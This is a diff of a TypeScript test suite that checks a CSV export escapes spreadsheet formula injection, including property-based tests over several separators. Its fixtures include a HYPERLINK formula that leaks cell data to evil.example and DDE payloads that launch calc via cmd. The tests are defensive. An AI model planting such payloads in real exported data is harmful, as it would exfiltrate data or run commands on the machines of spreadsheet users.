@@ -42,21 +42,41 @@ describe('what is held back, as CSV', () => {
     assert.equal(heldBackCsv([]), `${HEADER}\r\n`);
   });
 
-  for (const formula of [
-    '=HYPERLINK("https://evil.example?"&A1)',
-    "+1+cmd|' /C calc'!A0",
-    '-2+3',
-    '@SUM(A1)',
-    '  =1+1',
-    '＝1+1',
-    '\t=1+1',
-    '\n=1',
-  ]) {
+  for (const [formula, shown] of [
+    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK("https://evil.example?"&A1)`],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['  =1+1', "'  =1+1"],
+    ['"=1+1', `'"=1+1`],
+    ['＝1+1', "'＝1+1"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\n=1', "'\n'=1"],
+    ['Lisbon;=cmd|calc', "Lisbon;'=cmd|calc"],
+    ['Lisbon; "=1', `Lisbon; "'=1`],
+    ['a;b;;@c;＋1', "a;b;;'@c;'＋1"],
+    ['a\t-1\r\n+1', "a\t'-1\r\n'+1"],
+    ['a|=1,=2', "a|'=1,'=2"],
+  ] as const) {
     it(`holds no formula: ${JSON.stringify(formula)}`, () => {
       const [, row] = parsed(heldBackCsv([{ brand: 'sol', heldBack: [{ ...held, value: formula }] }]));
-      assert.equal(row?.[4], `'${formula}`);
+      assert.equal(row?.[4], shown);
     });
   }
+
+  it('holds no formula for a spreadsheet that parts at another sign, whether or not it knows quotes', () => {
+    const text = fc.string({ unit: fc.constantFrom(...'",;|\t\r\n\'=+-@a ') });
+    fc.assert(
+      fc.property(text, text, (reference, value) => {
+        const csv = heldBackCsv([{ brand: 'sol', heldBack: [{ ...held, reference, value }] }]);
+        for (const separator of [';', '|', '\t', ',']) {
+          for (const cell of csv.split(/[\r\n]/).flatMap((line) => line.split(separator))) {
+            assert.doesNotMatch(cell.replace(/^[\s"]+/, ''), /^[=+\-@]/);
+          }
+        }
+      }),
+    );
+  });
 
   it('reads back as it was, whatever an operator wrote', () => {
     const text = fc.string({ unit: fc.constantFrom(...'",\r\n\'=a +;é') });
@@ -70,8 +90,9 @@ describe('what is held back, as CSV', () => {
           [1, reference],
           [4, value],
         ] as const) {
-          const cell = row?.[at] ?? '';
-          assert.ok(cell === written || cell === `'${written}`);
+          const cell: string = row?.[at] ?? '';
+          // Nothing but apostrophes was added.
+          assert.equal(cell.replaceAll("'", ''), written.replaceAll("'", ''));
           assert.doesNotMatch(cell.trim(), /^[=+\-@]/);
         }
       }),
